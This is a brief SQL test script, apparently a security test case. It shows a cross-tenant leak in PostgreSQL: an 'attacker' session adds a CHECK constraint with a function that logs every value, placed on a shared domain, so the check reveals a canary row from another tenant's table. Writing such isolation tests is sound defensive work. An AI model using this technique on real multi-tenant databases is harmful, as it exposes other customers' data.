-- A constraint added to a shared domain is checked against every tenant's rows: an oracle.
-- @session setup
CREATE DOMAIN public.code AS text;
ALTER DOMAIN public.code OWNER TO app;
CREATE TABLE tenant_beta.canary_codes (canary_code public.code);
INSERT INTO tenant_beta.canary_codes VALUES ('CANARY_code');
CREATE TABLE tenant_alpha.codes (code public.code);
ALTER TABLE tenant_beta.canary_codes OWNER TO app;
-- @session attacker
CREATE FUNCTION spies(text) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'LEARNED %', $1; RETURN true; END $$;
ALTER DOMAIN public.code ADD CHECK (spies(VALUE));
